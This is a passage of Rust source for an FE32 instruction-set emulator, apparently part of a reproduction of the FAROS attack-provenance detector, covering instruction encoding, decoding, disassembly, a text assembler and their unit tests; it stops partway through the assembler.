        assert_eq!(AluOp::Shl.apply(1, 33), 2, "shift counts are masked to 5 bits");
        assert_eq!(AluOp::Shr.apply(16, 4), 1);
    }

    #[test]
    fn mem_display() {
        assert_eq!(Mem::abs(0x1000).to_string(), "[0x1000]");
        assert_eq!(Mem::base_disp(Reg::Ebx, 8).to_string(), "[ebx+0x8]");
        assert_eq!(Mem::table(Reg::Ebx, Reg::Ecx, 4).to_string(), "[ebx+ecx*4]");
        assert_eq!(Mem::reg(Reg::Esi).to_string(), "[esi]");
    }

    #[test]
    #[should_panic(expected = "scale must be")]
    fn mem_table_rejects_bad_scale() {
        let _ = Mem::table(Reg::Ebx, Reg::Ecx, 3);
    }

    #[test]
    fn mem_regs_used() {
        let m = Mem::table(Reg::Ebx, Reg::Ecx, 4);
        let regs: Vec<Reg> = m.regs_used().collect();
        assert_eq!(regs, vec![Reg::Ebx, Reg::Ecx]);
        assert_eq!(Mem::abs(4).regs_used().count(), 0);
    }

    #[test]
    fn ends_block_classification() {
        assert!(Instr::Hlt.ends_block());
        assert!(Instr::Ret.ends_block());
        assert!(Instr::Jmp { rel: 0 }.ends_block());
        assert!(Instr::Int { vector: SYSCALL_VECTOR }.ends_block());
        assert!(!Instr::Nop.ends_block());
        assert!(!Instr::MovRR { dst: Reg::Eax, src: Reg::Ebx }.ends_block());
    }

    #[test]
    fn operand_metadata_covers_every_variant() {
        use Instr as I;
        let mem = Mem::table(Reg::Ebx, Reg::Ecx, 4);
        // Reads.
        assert_eq!(I::MovRR { dst: Reg::Eax, src: Reg::Ebx }.regs_read(), vec![Reg::Ebx]);
        assert!(I::MovRI { dst: Reg::Eax, imm: 1 }.regs_read().is_empty());
        assert_eq!(
            I::Store { mem, src: Reg::Edx, width: Width::B4 }.regs_read(),
            vec![Reg::Ebx, Reg::Ecx, Reg::Edx]
        );
        assert_eq!(
            I::Alu { op: AluOp::Add, dst: Reg::Eax, src: Operand::Reg(Reg::Ebx) }.regs_read(),
            vec![Reg::Eax, Reg::Ebx]
        );
        assert_eq!(I::Cmp { a: Reg::Eax, b: Operand::Imm(1) }.regs_read(), vec![Reg::Eax]);
        assert_eq!(I::CallReg { target: Reg::Ebp }.regs_read(), vec![Reg::Ebp, Reg::Esp]);
        assert_eq!(I::JmpReg { target: Reg::Edi }.regs_read(), vec![Reg::Edi]);
        assert_eq!(I::Ret.regs_read(), vec![Reg::Esp]);
        assert!(I::Jmp { rel: 0 }.regs_read().is_empty());
        assert!(I::Int { vector: SYSCALL_VECTOR }.regs_read().is_empty());
        // Writes.
        assert_eq!(I::Lea { dst: Reg::Esi, mem }.regs_written(), vec![Reg::Esi]);
        assert_eq!(I::Push { src: Reg::Eax }.regs_written(), vec![Reg::Esp]);
        assert_eq!(I::Call { rel: 0 }.regs_written(), vec![Reg::Esp]);
        assert_eq!(I::Int { vector: SYSCALL_VECTOR }.regs_written(), vec![Reg::Eax]);
        assert!(I::Store { mem, src: Reg::Edx, width: Width::B4 }.regs_written().is_empty());
        // Memory operands.
        assert_eq!(
            I::Load { dst: Reg::Eax, mem, width: Width::B2 }.mem_read(),
            Some((mem, Width::B2))
        );
        assert_eq!(I::Load { dst: Reg::Eax, mem, width: Width::B2 }.mem_written(), None);
        assert_eq!(
            I::Store { mem, src: Reg::Eax, width: Width::B1 }.mem_written(),
            Some((mem, Width::B1))
        );
        assert_eq!(I::Nop.mem_read(), None);
    }

    #[test]
    fn instr_display_is_nonempty() {
        let samples = [
            Instr::MovRR { dst: Reg::Eax, src: Reg::Ebx },
            Instr::Load { dst: Reg::Eax, mem: Mem::abs(0x10), width: Width::B4 },
            Instr::Alu { op: AluOp::Xor, dst: Reg::Eax, src: Operand::Reg(Reg::Eax) },
            Instr::Jcc { cond: Cond::Nz, rel: -5 },
        ];
        for s in samples {
            assert!(!s.to_string().is_empty());
        }
    }
}
