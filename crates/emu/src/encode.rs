//! Binary encoding and decoding of FE32 instructions.
//!
//! Instructions are variable-length byte sequences: one opcode byte followed
//! by operand bytes (registers one byte each, immediates/displacements
//! little-endian 32-bit, memory operands a flags byte plus components).
//!
//! Byte-level encoding matters for the reproduction: FAROS flags attacks by
//! the provenance of the *bytes an instruction was fetched from*, so guest
//! code must exist as taggable bytes in guest memory rather than as a
//! pre-decoded structure.
//!
//! # Examples
//!
//! ```
//! use faros_emu::encode::{decode, encode};
//! use faros_emu::isa::{Instr, Reg};
//!
//! let i = Instr::MovRI { dst: Reg::Eax, imm: 0xdead_beef };
//! let bytes = encode(&i);
//! let (decoded, len) = decode(&bytes).unwrap();
//! assert_eq!(decoded, i);
//! assert_eq!(len, bytes.len());
//! ```

use crate::isa::{AluOp, Cond, Instr, Mem, Operand, Reg, Width};
use std::fmt;

/// Error returned when a byte sequence is not a valid FE32 instruction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecodeError {
    /// The first byte is not a known opcode.
    BadOpcode(u8),
    /// A register operand byte is out of range.
    BadReg(u8),
    /// A memory operand's scale field is not 1, 2, 4, or 8.
    BadScale(u8),
    /// The byte sequence ends before the instruction is complete.
    Truncated,
}

impl fmt::Display for DecodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DecodeError::BadOpcode(op) => write!(f, "invalid opcode byte {op:#04x}"),
            DecodeError::BadReg(r) => write!(f, "invalid register encoding {r:#04x}"),
            DecodeError::BadScale(s) => write!(f, "invalid scale encoding {s:#04x}"),
            DecodeError::Truncated => write!(f, "truncated instruction"),
        }
    }
}

impl std::error::Error for DecodeError {}

// Opcode space layout. Kept dense per class so decode dispatch stays simple.
const OP_NOP: u8 = 0x00;
const OP_MOV_RR: u8 = 0x01;
const OP_MOV_RI: u8 = 0x02;
const OP_LOAD_B1: u8 = 0x10;
const OP_LOAD_B2: u8 = 0x11;
const OP_LOAD_B4: u8 = 0x12;
const OP_STORE_B1: u8 = 0x14;
const OP_STORE_B2: u8 = 0x15;
const OP_STORE_B4: u8 = 0x16;
const OP_LEA: u8 = 0x18;
const OP_ALU_RR_BASE: u8 = 0x20; // ..0x27
const OP_ALU_RI_BASE: u8 = 0x28; // ..0x2f
const OP_CMP_RR: u8 = 0x30;
const OP_CMP_RI: u8 = 0x31;
const OP_TEST_RR: u8 = 0x32;
const OP_TEST_RI: u8 = 0x33;
const OP_JMP: u8 = 0x40;
const OP_JCC_BASE: u8 = 0x48; // ..0x4f
const OP_CALL: u8 = 0x50;
const OP_CALL_REG: u8 = 0x51;
const OP_RET: u8 = 0x52;
const OP_JMP_REG: u8 = 0x53;
const OP_PUSH: u8 = 0x60;
const OP_PUSH_IMM: u8 = 0x61;
const OP_POP: u8 = 0x62;
const OP_INT: u8 = 0x70;
const OP_HLT: u8 = 0x71;

/// Encodes one instruction, appending its bytes to `out`.
pub fn encode_into(instr: &Instr, out: &mut Vec<u8>) {
    match *instr {
        Instr::Nop => out.push(OP_NOP),
        Instr::MovRR { dst, src } => {
            out.push(OP_MOV_RR);
            out.push(dst as u8);
            out.push(src as u8);
        }
        Instr::MovRI { dst, imm } => {
            out.push(OP_MOV_RI);
            out.push(dst as u8);
            out.extend_from_slice(&imm.to_le_bytes());
        }
        Instr::Load { dst, mem, width } => {
            out.push(match width {
                Width::B1 => OP_LOAD_B1,
                Width::B2 => OP_LOAD_B2,
                Width::B4 => OP_LOAD_B4,
            });
            out.push(dst as u8);
            encode_mem(&mem, out);
        }
        Instr::Store { mem, src, width } => {
            out.push(match width {
                Width::B1 => OP_STORE_B1,
                Width::B2 => OP_STORE_B2,
                Width::B4 => OP_STORE_B4,
            });
            out.push(src as u8);
            encode_mem(&mem, out);
        }
        Instr::Lea { dst, mem } => {
            out.push(OP_LEA);
            out.push(dst as u8);
            encode_mem(&mem, out);
        }
        Instr::Alu { op, dst, src } => match src {
            Operand::Reg(s) => {
                out.push(OP_ALU_RR_BASE + op as u8);
                out.push(dst as u8);
                out.push(s as u8);
            }
            Operand::Imm(imm) => {
                out.push(OP_ALU_RI_BASE + op as u8);
                out.push(dst as u8);
                out.extend_from_slice(&imm.to_le_bytes());
            }
        },
        Instr::Cmp { a, b } => match b {
            Operand::Reg(r) => {
                out.push(OP_CMP_RR);
                out.push(a as u8);
                out.push(r as u8);
            }
            Operand::Imm(imm) => {
                out.push(OP_CMP_RI);
                out.push(a as u8);
                out.extend_from_slice(&imm.to_le_bytes());
            }
        },
        Instr::Test { a, b } => match b {
            Operand::Reg(r) => {
                out.push(OP_TEST_RR);
                out.push(a as u8);
                out.push(r as u8);
            }
            Operand::Imm(imm) => {
                out.push(OP_TEST_RI);
                out.push(a as u8);
                out.extend_from_slice(&imm.to_le_bytes());
            }
        },
        Instr::Jmp { rel } => {
            out.push(OP_JMP);
            out.extend_from_slice(&rel.to_le_bytes());
        }
        Instr::Jcc { cond, rel } => {
            out.push(OP_JCC_BASE + cond as u8);
            out.extend_from_slice(&rel.to_le_bytes());
        }
        Instr::Call { rel } => {
            out.push(OP_CALL);
            out.extend_from_slice(&rel.to_le_bytes());
        }
        Instr::CallReg { target } => {
            out.push(OP_CALL_REG);
            out.push(target as u8);
        }
        Instr::JmpReg { target } => {
            out.push(OP_JMP_REG);
            out.push(target as u8);
        }
        Instr::Ret => out.push(OP_RET),
        Instr::Push { src } => {
            out.push(OP_PUSH);
            out.push(src as u8);
        }
        Instr::PushImm { imm } => {
            out.push(OP_PUSH_IMM);
            out.extend_from_slice(&imm.to_le_bytes());
        }
        Instr::Pop { dst } => {
            out.push(OP_POP);
            out.push(dst as u8);
        }
        Instr::Int { vector } => {
            out.push(OP_INT);
            out.push(vector);
        }
        Instr::Hlt => out.push(OP_HLT),
    }
}

/// Encodes one instruction into a fresh byte vector.
pub fn encode(instr: &Instr) -> Vec<u8> {
    let mut out = Vec::with_capacity(8);
    encode_into(instr, &mut out);
    out
}

fn encode_mem(mem: &Mem, out: &mut Vec<u8>) {
    let mut flags = 0u8;
    if mem.base.is_some() {
        flags |= 1;
    }
    if mem.index.is_some() {
        flags |= 2;
    }
    out.push(flags);
    if let Some(b) = mem.base {
        out.push(b as u8);
    }
    if let Some((i, scale)) = mem.index {
        let log2 = scale.trailing_zeros() as u8;
        out.push((i as u8) | (log2 << 4));
    }
    out.extend_from_slice(&mem.disp.to_le_bytes());
}

struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn u8(&mut self) -> Result<u8, DecodeError> {
        let b = *self.bytes.get(self.pos).ok_or(DecodeError::Truncated)?;
        self.pos += 1;
        Ok(b)
    }

    fn reg(&mut self) -> Result<Reg, DecodeError> {
        let b = self.u8()?;
        Reg::from_index(b).ok_or(DecodeError::BadReg(b))
    }

    fn u32(&mut self) -> Result<u32, DecodeError> {
        let s = self
            .bytes
            .get(self.pos..self.pos + 4)
            .ok_or(DecodeError::Truncated)?;
        self.pos += 4;
        Ok(u32::from_le_bytes([s[0], s[1], s[2], s[3]]))
    }

    fn i32(&mut self) -> Result<i32, DecodeError> {
        Ok(self.u32()? as i32)
    }

    fn mem(&mut self) -> Result<Mem, DecodeError> {
        let flags = self.u8()?;
        let base = if flags & 1 != 0 { Some(self.reg()?) } else { None };
        let index = if flags & 2 != 0 {
            let b = self.u8()?;
            let reg = Reg::from_index(b & 0x0f).ok_or(DecodeError::BadReg(b))?;
            let log2 = (b >> 4) & 0x0f;
            if log2 > 3 {
                return Err(DecodeError::BadScale(b));
            }
            Some((reg, 1u8 << log2))
        } else {
            None
        };
        let disp = self.i32()?;
        Ok(Mem { base, index, disp })
    }
}

/// Decodes one instruction from the start of `bytes`.
///
/// Returns the instruction and its encoded length.
///
/// # Errors
///
/// Returns a [`DecodeError`] if the bytes do not form a valid instruction —
/// this is how the emulator models an *illegal instruction* fault, e.g. when
/// a process jumps into a non-code region.
pub fn decode(bytes: &[u8]) -> Result<(Instr, usize), DecodeError> {
    let mut r = Reader { bytes, pos: 0 };
    let opcode = r.u8()?;
    let instr = match opcode {
        OP_NOP => Instr::Nop,
        OP_MOV_RR => Instr::MovRR { dst: r.reg()?, src: r.reg()? },
        OP_MOV_RI => Instr::MovRI { dst: r.reg()?, imm: r.u32()? },
        OP_LOAD_B1 | OP_LOAD_B2 | OP_LOAD_B4 => {
            let width = match opcode {
                OP_LOAD_B1 => Width::B1,
                OP_LOAD_B2 => Width::B2,
                _ => Width::B4,
            };
            Instr::Load { dst: r.reg()?, mem: r.mem()?, width }
        }
        OP_STORE_B1 | OP_STORE_B2 | OP_STORE_B4 => {
            let width = match opcode {
                OP_STORE_B1 => Width::B1,
                OP_STORE_B2 => Width::B2,
                _ => Width::B4,
            };
            let src = r.reg()?;
            let mem = r.mem()?;
            Instr::Store { mem, src, width }
        }
        OP_LEA => Instr::Lea { dst: r.reg()?, mem: r.mem()? },
        op if (OP_ALU_RR_BASE..OP_ALU_RR_BASE + 8).contains(&op) => {
            let alu = AluOp::ALL[(op - OP_ALU_RR_BASE) as usize];
            Instr::Alu { op: alu, dst: r.reg()?, src: Operand::Reg(r.reg()?) }
        }
        op if (OP_ALU_RI_BASE..OP_ALU_RI_BASE + 8).contains(&op) => {
            let alu = AluOp::ALL[(op - OP_ALU_RI_BASE) as usize];
            Instr::Alu { op: alu, dst: r.reg()?, src: Operand::Imm(r.u32()?) }
        }
        OP_CMP_RR => Instr::Cmp { a: r.reg()?, b: Operand::Reg(r.reg()?) },
        OP_CMP_RI => Instr::Cmp { a: r.reg()?, b: Operand::Imm(r.u32()?) },
        OP_TEST_RR => Instr::Test { a: r.reg()?, b: Operand::Reg(r.reg()?) },
        OP_TEST_RI => Instr::Test { a: r.reg()?, b: Operand::Imm(r.u32()?) },
        OP_JMP => Instr::Jmp { rel: r.i32()? },
        op if (OP_JCC_BASE..OP_JCC_BASE + 8).contains(&op) => Instr::Jcc {
            cond: Cond::ALL[(op - OP_JCC_BASE) as usize],
            rel: r.i32()?,
        },
        OP_CALL => Instr::Call { rel: r.i32()? },
        OP_CALL_REG => Instr::CallReg { target: r.reg()? },
        OP_JMP_REG => Instr::JmpReg { target: r.reg()? },
        OP_RET => Instr::Ret,
        OP_PUSH => Instr::Push { src: r.reg()? },
        OP_PUSH_IMM => Instr::PushImm { imm: r.u32()? },
        OP_POP => Instr::Pop { dst: r.reg()? },
        OP_INT => Instr::Int { vector: r.u8()? },
        OP_HLT => Instr::Hlt,
        other => return Err(DecodeError::BadOpcode(other)),
    };
    Ok((instr, r.pos))
}

/// Decodes one instruction at byte offset `off` within `bytes`.
///
/// This is the raw-buffer entry point static analyzers use to walk a
/// section image by offset (recursive descent visits offsets out of order,
/// so re-slicing at the call site would obscure the cursor arithmetic).
/// Returns the instruction and its encoded length.
///
/// # Errors
///
/// Returns [`DecodeError::Truncated`] when `off` is at or past the end of
/// `bytes`, and any other [`DecodeError`] the bytes at `off` produce.
///
/// # Examples
///
/// ```
/// use faros_emu::encode::{decode_at, encode};
/// use faros_emu::isa::Instr;
///
/// let mut bytes = encode(&Instr::Nop);
/// bytes.extend(encode(&Instr::Hlt));
/// assert_eq!(decode_at(&bytes, 1).unwrap(), (Instr::Hlt, 1));
/// ```
pub fn decode_at(bytes: &[u8], off: usize) -> Result<(Instr, usize), DecodeError> {
    decode(bytes.get(off..).ok_or(DecodeError::Truncated)?)
}

/// Maximum encoded length of any FE32 instruction, in bytes.
///
/// `ld4 dst, [base + index*scale + disp]`: opcode + reg + flags + base +
/// index + disp32 = 9 bytes.
pub const MAX_INSTR_LEN: usize = 9;

/// Disassembles a byte region into `(address, instruction)` pairs, stopping
/// at the first undecodable byte. `base` is the virtual address of
/// `bytes[0]` (used for the reported addresses).
///
/// Forensic tools (the malfind-style scanner, analyst report previews) use
/// this to render injected regions the way Volatility prints a disassembly
/// listing.
///
/// # Examples
///
/// ```
/// use faros_emu::encode::{disassemble, encode};
/// use faros_emu::isa::{Instr, Reg};
///
/// let mut bytes = encode(&Instr::MovRI { dst: Reg::Eax, imm: 7 });
/// bytes.extend(encode(&Instr::Hlt));
/// let listing = disassemble(&bytes, 0x1000);
/// assert_eq!(listing.len(), 2);
/// assert_eq!(listing[0].0, 0x1000);
/// assert_eq!(listing[1].1, Instr::Hlt);
/// ```
pub fn disassemble(bytes: &[u8], base: u32) -> Vec<(u32, Instr)> {
    let mut out = Vec::new();
    let mut off = 0usize;
    while off < bytes.len() {
        match decode(&bytes[off..]) {
            Ok((instr, len)) => {
                out.push((base + off as u32, instr));
                off += len;
            }
            Err(_) => break,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::isa::{AluOp, Cond, Mem, Reg};

    fn all_sample_instrs() -> Vec<Instr> {
        let mut v = vec![
            Instr::Nop,
            Instr::Hlt,
            Instr::Ret,
            Instr::MovRR { dst: Reg::Eax, src: Reg::Esp },
            Instr::MovRI { dst: Reg::Edi, imm: 0xffff_ffff },
            Instr::Lea { dst: Reg::Esi, mem: Mem::table(Reg::Ebx, Reg::Ecx, 8) },
            Instr::Jmp { rel: -1 },
            Instr::Call { rel: 0x7fff_ffff },
            Instr::CallReg { target: Reg::Edx },
            Instr::JmpReg { target: Reg::Eax },
            Instr::Push { src: Reg::Ebp },
            Instr::PushImm { imm: 42 },
            Instr::Pop { dst: Reg::Ebp },
            Instr::Int { vector: 0x2e },
            Instr::Cmp { a: Reg::Eax, b: Operand::Imm(7) },
            Instr::Cmp { a: Reg::Eax, b: Operand::Reg(Reg::Ebx) },
            Instr::Test { a: Reg::Ecx, b: Operand::Imm(1) },
            Instr::Test { a: Reg::Ecx, b: Operand::Reg(Reg::Ecx) },
        ];
        for w in [Width::B1, Width::B2, Width::B4] {
            v.push(Instr::Load { dst: Reg::Eax, mem: Mem::abs(0x8000_0000), width: w });
            v.push(Instr::Store {
                mem: Mem::base_disp(Reg::Edi, -16),
                src: Reg::Ecx,
                width: w,
            });
        }
        for op in AluOp::ALL {
            v.push(Instr::Alu { op, dst: Reg::Edx, src: Operand::Reg(Reg::Esi) });
            v.push(Instr::Alu { op, dst: Reg::Edx, src: Operand::Imm(0x1234) });
        }
        for cond in Cond::ALL {
            v.push(Instr::Jcc { cond, rel: -128 });
        }
        v
    }

    #[test]
    fn round_trip_all_forms() {
        for instr in all_sample_instrs() {
            let bytes = encode(&instr);
            assert!(bytes.len() <= MAX_INSTR_LEN, "{instr}: {} bytes", bytes.len());
            let (decoded, len) = decode(&bytes).unwrap_or_else(|e| {
                panic!("failed to decode {instr}: {e}");
            });
            assert_eq!(decoded, instr);
            assert_eq!(len, bytes.len());
        }
    }

    #[test]
    fn truncated_input_is_an_error() {
        for instr in all_sample_instrs() {
            let bytes = encode(&instr);
            for cut in 0..bytes.len() {
                if cut == 0 {
                    assert_eq!(decode(&bytes[..0]), Err(DecodeError::Truncated));
                    continue;
                }
                // Any strict prefix must either fail or decode to a shorter
                // valid instruction (prefix coincidences are fine; silently
                // decoding the *same* instruction from fewer bytes is not).
                if let Ok((_, len)) = decode(&bytes[..cut]) {
                    assert!(len <= cut);
                }
            }
        }
    }

    #[test]
    fn bad_opcode_is_an_error() {
        assert_eq!(decode(&[0xff]), Err(DecodeError::BadOpcode(0xff)));
        assert_eq!(decode(&[0x90]), Err(DecodeError::BadOpcode(0x90)));
    }

    #[test]
    fn bad_register_is_an_error() {
        // MOV r, r with register byte 9.
        assert_eq!(decode(&[OP_MOV_RR, 9, 0]), Err(DecodeError::BadReg(9)));
    }

    #[test]
    fn bad_scale_is_an_error() {
        // Load with index flags and scale log2 = 15.
        let bytes = [OP_LOAD_B4, 0, 0b10, 0xf0, 0, 0, 0, 0];
        assert_eq!(decode(&bytes), Err(DecodeError::BadScale(0xf0)));
    }

    #[test]
    fn decode_empty_is_truncated() {
        assert_eq!(decode(&[]), Err(DecodeError::Truncated));
    }

    #[test]
    fn decode_at_matches_decode_of_suffix() {
        let mut stream = Vec::new();
        let instrs = all_sample_instrs();
        let mut offsets = Vec::new();
        for i in &instrs {
            offsets.push(stream.len());
            encode_into(i, &mut stream);
        }
        for (i, off) in instrs.iter().zip(offsets) {
            let (decoded, len) = decode_at(&stream, off).unwrap();
            assert_eq!(&decoded, i);
            assert_eq!(len, encode(i).len());
        }
        // Past the end: truncated, not a panic.
        assert_eq!(decode_at(&stream, stream.len()), Err(DecodeError::Truncated));
        assert_eq!(decode_at(&stream, stream.len() + 100), Err(DecodeError::Truncated));
    }

    #[test]
    fn mem_operand_round_trip_edge_disps() {
        for disp in [i32::MIN, -1, 0, 1, i32::MAX] {
            let instr = Instr::Load {
                dst: Reg::Eax,
                mem: Mem { base: Some(Reg::Ebx), index: Some((Reg::Ecx, 2)), disp },
                width: Width::B4,
            };
            let (d, _) = decode(&encode(&instr)).unwrap();
            assert_eq!(d, instr);
        }
    }
}
