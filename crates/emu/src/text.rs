//! A text-syntax assembler on top of [`crate::asm::Asm`].
//!
//! The builder API is what the corpus uses programmatically; this module
//! accepts human-written source, which is how an analyst poking at the
//! emulator from the CLI (or a test fixture) writes guest code:
//!
//! ```text
//! ; download-and-print skeleton
//! start:
//!     mov eax, 0x52          ; NtDisplayString
//!     mov ebx, msg
//!     mov ecx, 5
//!     int 0x2e
//!     hlt
//! msg:
//!     .ascii "hello"
//! ```
//!
//! Supported forms: every FE32 instruction (registers `eax..esp`, memory
//! operands `[base]`, `[base+disp]`, `[base+index*scale]`,
//! `[base+index*scale+disp]`, `[abs]`), labels (`name:`), label references
//! in `mov r, label` / branch targets, and the data directives `.ascii`,
//! `.u32`, `.byte`.

use crate::asm::{Asm, AsmError};
use crate::isa::{Mem, Reg};
use std::collections::HashMap;
use std::fmt;

/// Error produced while assembling text source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TextAsmError {
    /// 1-based source line.
    pub line: usize,
    /// What went wrong.
    pub message: String,
}

impl fmt::Display for TextAsmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}: {}", self.line, self.message)
    }
}

impl std::error::Error for TextAsmError {}

fn err(line: usize, message: impl Into<String>) -> TextAsmError {
    TextAsmError { line, message: message.into() }
}

fn parse_reg(tok: &str) -> Option<Reg> {
    match tok {
        "eax" => Some(Reg::Eax),
        "ebx" => Some(Reg::Ebx),
        "ecx" => Some(Reg::Ecx),
        "edx" => Some(Reg::Edx),
        "esi" => Some(Reg::Esi),
        "edi" => Some(Reg::Edi),
        "ebp" => Some(Reg::Ebp),
        "esp" => Some(Reg::Esp),
        _ => None,
    }
}

fn parse_imm(tok: &str) -> Option<u32> {
    let tok = tok.trim();
    let (neg, tok) = match tok.strip_prefix('-') {
        Some(rest) => (true, rest),
        None => (false, tok),
    };
    let value = if let Some(hex) = tok.strip_prefix("0x") {
        u32::from_str_radix(hex, 16).ok()?
    } else {
        tok.parse::<u32>().ok()?
    };
    Some(if neg { value.wrapping_neg() } else { value })
}

/// Parses a memory operand like `[ebx+ecx*4+0x10]`.
fn parse_mem(tok: &str, line: usize) -> Result<Mem, TextAsmError> {
    let inner = tok
        .strip_prefix('[')
        .and_then(|s| s.strip_suffix(']'))
        .ok_or_else(|| err(line, format!("expected memory operand, got `{tok}`")))?;
    let mut mem = Mem { base: None, index: None, disp: 0 };
    // Split on '+' but keep '-disp' working by normalizing "-" to "+-".
    let normalized = inner.replace('-', "+-");
    for part in normalized.split('+') {
        let part = part.trim();
        if part.is_empty() {
            continue;
        }
        if let Some((reg_tok, scale_tok)) = part.split_once('*') {
            let reg = parse_reg(reg_tok.trim())
                .ok_or_else(|| err(line, format!("bad index register `{reg_tok}`")))?;
            let scale: u8 = scale_tok
                .trim()
                .parse()
                .ok()
                .filter(|s| matches!(s, 1 | 2 | 4 | 8))
                .ok_or_else(|| err(line, format!("bad scale `{scale_tok}`")))?;
            if mem.index.is_some() {
                return Err(err(line, "duplicate index register"));
            }
            mem.index = Some((reg, scale));
        } else if let Some(reg) = parse_reg(part) {
            if mem.base.is_some() {
                return Err(err(line, "duplicate base register"));
            }
            mem.base = Some(reg);
        } else if let Some(imm) = parse_imm(part) {
            mem.disp = mem.disp.wrapping_add(imm as i32);
        } else {
            return Err(err(line, format!("bad memory operand component `{part}`")));
        }
    }
    Ok(mem)
}

/// Splits an operand list on commas at the top level (commas inside `[]`
/// cannot occur in this syntax, so a plain split suffices).
fn operands(rest: &str) -> Vec<String> {
    if rest.trim().is_empty() {
        return Vec::new();
    }
    rest.split(',').map(|s| s.trim().to_string()).collect()
}

/// Parses a `.ascii "..."` string literal (supports `\n`, `\"`, `\\`).
fn parse_string(tok: &str, line: usize) -> Result<Vec<u8>, TextAsmError> {
    let inner = tok
        .trim()
        .strip_prefix('"')
        .and_then(|s| s.strip_suffix('"'))
        .ok_or_else(|| err(line, "expected a quoted string"))?;
    let mut out = Vec::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push(b'\n'),
                Some('"') => out.push(b'"'),
                Some('\\') => out.push(b'\\'),
                Some('0') => out.push(0),
                other => return Err(err(line, format!("bad escape `\\{other:?}`"))),
            }
        } else {
            out.extend(c.to_string().as_bytes());
        }
    }
    Ok(out)
}

/// Assembles text source for load address `base`, returning the image and
/// the label table.
///
/// # Errors
///
/// Returns a [`TextAsmError`] with the offending line for syntax errors,
/// and maps label errors ([`AsmError`]) to line 0.
pub fn assemble_text_with_labels(
    source: &str,
    base: u32,
) -> Result<(Vec<u8>, HashMap<String, u32>), TextAsmError> {
    let mut asm = Asm::new(base);
    for (idx, raw_line) in source.lines().enumerate() {
        let line_no = idx + 1;
        // Strip comments (`;`), but not inside string literals.
        let mut in_string = false;
        let mut escaped = false;
        let mut comment_at = raw_line.len();
        for (i, c) in raw_line.char_indices() {
            match c {
                '\\' if in_string => escaped = !escaped,
                '"' if !escaped => in_string = !in_string,
                ';' if !in_string => {
                    comment_at = i;
                    break;
                }
                _ => escaped = false,
            }
        }
        let code = raw_line[..comment_at].trim();
        if code.is_empty() {
            continue;
        }
        // Label definition?
        if let Some(name) = code.strip_suffix(':') {
            let name = name.trim();
            if name.is_empty() || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                return Err(err(line_no, format!("bad label `{name}`")));
            }
            asm.label(name);
            continue;
        }
        let (mnemonic, rest) = match code.split_once(char::is_whitespace) {
            Some((m, r)) => (m, r.trim()),
            None => (code, ""),
        };
        let ops = operands(rest);
        let want = |n: usize| -> Result<(), TextAsmError> {
            if ops.len() == n {
                Ok(())
            } else {
                Err(err(line_no, format!("{mnemonic} expects {n} operand(s), got {}", ops.len())))
            }
        };
        match mnemonic {
            // data directives
            ".ascii" => {
                asm.raw(&parse_string(rest, line_no)?);
            }
            ".u32" => {
                want(1)?;
                let v = parse_imm(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad value `{}`", ops[0])))?;
                asm.dd(v);
            }
            ".byte" => {
                for op in &ops {
                    let v = parse_imm(op)
                        .ok_or_else(|| err(line_no, format!("bad byte `{op}`")))?;
                    asm.raw(&[v as u8]);
                }
            }
            "mov" => {
                want(2)?;
                let dst = parse_reg(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[0])))?;
                if let Some(src) = parse_reg(&ops[1]) {
                    asm.mov_rr(dst, src);
                } else if let Some(imm) = parse_imm(&ops[1]) {
                    asm.mov_ri(dst, imm);
                } else {
                    // Label reference: resolved absolutely at assembly.
                    asm.mov_label(dst, &ops[1]);
                }
            }
            "ld1" | "ld2" | "ld4" => {
                want(2)?;
                let dst = parse_reg(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[0])))?;
                let mem = parse_mem(&ops[1], line_no)?;
                match mnemonic {
                    "ld1" => asm.ld1(dst, mem),
                    "ld2" => asm.ld2(dst, mem),
                    _ => asm.ld4(dst, mem),
                };
            }
            "st1" | "st2" | "st4" => {
                want(2)?;
                let mem = parse_mem(&ops[0], line_no)?;
                let src = parse_reg(&ops[1])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[1])))?;
                match mnemonic {
                    "st1" => asm.st1(mem, src),
                    "st2" => asm.st2(mem, src),
                    _ => asm.st4(mem, src),
                };
            }
            "lea" => {
                want(2)?;
                let dst = parse_reg(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[0])))?;
                asm.lea(dst, parse_mem(&ops[1], line_no)?);
            }
            "add" | "sub" | "and" | "or" | "xor" | "mul" | "shl" | "shr" | "cmp" | "test" => {
                want(2)?;
                let dst = parse_reg(&ops[0])
                    .ok_or_else(|| err(line_no, format!("bad register `{}`", ops[0])))?;
                if let Some(src) = parse_reg(&ops[1]) {
                    match mnemonic {
                        "add" => asm.add_rr(dst, src),
                        "sub" => asm.sub_rr(dst, src),
                        "and" => asm.and_rr(dst, src),
                        "or" => asm.or_rr(dst, src),
                        "xor" => asm.xor_rr(dst, src),
                        "mul" => asm.mul_rr(dst, src),
                        "shl" => asm.shl_rr(dst, src),
                        "shr" => return Err(err(line_no, "shr r, r is not encodable; use an immediate")),
                        "cmp" => asm.cmp_rr(dst, src),
                        _ => asm.test_rr(dst, src),
                    };
                } else if let Some(imm) = parse_imm(&ops[1]) {
                    match mnemonic {
                        "add" => asm.add_ri(dst, imm),
                        "sub" => asm.sub_ri(dst, imm),
                        "and" => asm.and_ri(dst, imm),
                        "or" => asm.or_ri(dst, imm),
                        "xor" => asm.xor_ri(dst, imm),
                        "mul" => asm.mul_ri(dst, imm),
                        "shl" => asm.shl_ri(dst, imm),
                        "shr" => asm.shr_ri(dst, imm),
                        "cmp" => asm.cmp_ri(dst, imm),
                        _ => asm.test_ri(dst, imm),
                    };
                } else {
                    return Err(err(line_no, format!("bad operand `{}`", ops[1])));
                }
            }
            "jmp" => {
                want(1)?;
